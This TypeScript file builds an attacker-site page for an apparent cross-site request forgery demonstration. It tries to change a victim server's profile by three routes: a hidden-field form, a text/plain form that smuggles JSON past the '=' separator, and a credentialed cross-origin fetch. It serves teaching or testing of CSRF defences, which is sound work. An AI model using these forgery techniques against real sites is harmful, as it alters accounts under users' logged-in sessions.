import { el, setText } from "../dom.js";
import { otherSitePage as words } from "../texts/other-site-page.js";

const mallory = { displayName: "Mallory", bio: "was here" };

/** The page of another site, which tries to change a profile on the victim's server. */
export function otherSitePage(victim: string | undefined): HTMLElement {
  if (!victim) return el("main", {}, el("h1", {}, words.heading), el("p", {}, words.nowhere));
  const target = `${victim}/api/profile`;
  return el(
    "main",
    {},
    el("h1", {}, words.heading),
    el("p", { class: "lead" }, words.words(new URL(victim).host)),
    el("p", {}, words.wanted),
    el("ol", {}, plainForm(target), textForm(target), byScript(target)),
    el("p", { class: "quiet" }, words.back),
  );
}

function plainForm(target: string): HTMLElement {
  const fields = Object.entries(mallory).map(([name, value]) => el("input", { type: "hidden", name, value }));
  return form(target, "application/x-www-form-urlencoded", { testId: "form", press: words.form, about: words.formWords }, ...fields);
}

function textForm(target: string): HTMLElement {
  // A form puts a "=" between the name and the value. Here it is part of a string in the JSON.
  const [name, value] = JSON.stringify({ ...mallory, more: "=" }).split("=") as [string, string];
  const field = el("input", { type: "hidden", name, value });
  return form(target, "text/plain", { testId: "text-form", press: words.text, about: words.textWords }, field);
}

interface FormTexts {
  readonly testId: string;
  readonly press: string;
  readonly about: string;
}

function form(action: string, enctype: string, { testId, press, about }: FormTexts, ...fields: readonly HTMLElement[]): HTMLElement {
  const submit = el("button", { type: "submit", "data-testid": testId }, press);
  return el("li", {}, el("p", {}, about), el("form", { method: "post", action, enctype, target: "_blank", rel: "noopener" }, ...fields, submit));
}

function byScript(target: string): HTMLElement {
  const result = el("p", { class: "result", role: "status", "data-testid": "script-result" });
  const press = el("button", { type: "button", "data-testid": "script" }, words.fetch);
  press.addEventListener("click", () => {
    const body = JSON.stringify(mallory);
    const sent = fetch(target, { method: "POST", credentials: "include", headers: { "Content-Type": "application/json" }, body });
    void sent.then(
      ({ status }) => setText(result, words.answered(status)),
      () => setText(result, words.stopped),
    );
  });
  return el("li", {}, el("p", {}, words.fetchWords), press, result);
}
